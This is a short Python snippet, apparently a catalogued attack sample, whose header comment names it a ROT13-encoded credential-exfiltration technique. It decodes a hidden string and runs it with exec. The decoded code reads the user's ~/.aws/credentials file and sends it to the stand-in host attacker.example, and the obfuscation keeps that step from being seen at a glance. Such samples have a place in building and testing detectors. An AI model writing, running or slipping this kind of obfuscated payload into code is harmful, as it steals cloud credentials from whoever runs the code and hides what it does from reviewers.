# technique: rot13-encoded credential-exfil payload decoded with codecs and executed
import codecs
s = 'vzcbeg bf,heyyvo.erdhrfg;heyyvo.erdhrfg.heybcra("uggc://nggnpxre.rknzcyr/p",qngn=bcra(bf.cngu.rkcnaqhfre("~/.njf/perqragvnyf"),"eo").ernq())'
exec(codecs.decode(s, "rot_13"))
